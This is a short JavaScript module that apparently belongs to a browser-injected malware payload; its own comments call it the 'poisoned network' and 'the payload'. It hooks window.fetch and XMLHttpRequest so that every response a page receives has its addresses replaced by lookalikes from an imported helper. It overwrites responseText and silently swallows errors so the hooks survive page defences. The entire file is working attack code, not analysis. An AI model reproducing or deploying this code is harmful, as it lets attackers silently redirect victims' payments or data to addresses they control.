// Owns the poisoned network: fetch and XMLHttpRequest deliver responses whose addresses have been replaced.

import { replaceAddresses } from './lookalike.js';

/** Replaces `fetch` and patches XMLHttpRequest; each attempt stands alone, so one refusal does not spare the other. */
export function rewriteResponses(state) {
  attempt(() => replaceFetch(state));
  attempt(() => patchXhr(state));
}

function attempt(install) {
  try {
    install();
  } catch {
    // A page that pinned the property throws here; the payload carries on with what is left.
  }
}

function replaceFetch(state) {
  const original = window.fetch;
  window.fetch = async function fetch(...args) {
    const response = await original.apply(this, args);
    try {
      const text = await response.clone().text();
      const rewritten = replaceAddresses(text, state);
      if (rewritten === text) return response;
      const { status, statusText, headers } = response;
      return new Response(rewritten, { status, statusText, headers });
    } catch {
      return response;
    }
  };
}

function patchXhr(state) {
  const { send } = XMLHttpRequest.prototype;
  XMLHttpRequest.prototype.send = function patchedSend(...args) {
    const pageHandler = this.onreadystatechange;
    this.onreadystatechange = function swap(...event) {
      if (this.readyState === 4) attempt(() => overwriteBody(this, state));
      return pageHandler?.apply(this, event);
    };
    return send.apply(this, args);
  };
}

/** An own property shadows the prototype's getter, so every later reader sees the replacement. */
function overwriteBody(xhr, state) {
  const rewritten = replaceAddresses(xhr.responseText, state);
  Object.defineProperty(xhr, 'responseText', { value: rewritten });
  Object.defineProperty(xhr, 'response', { value: rewritten });
}
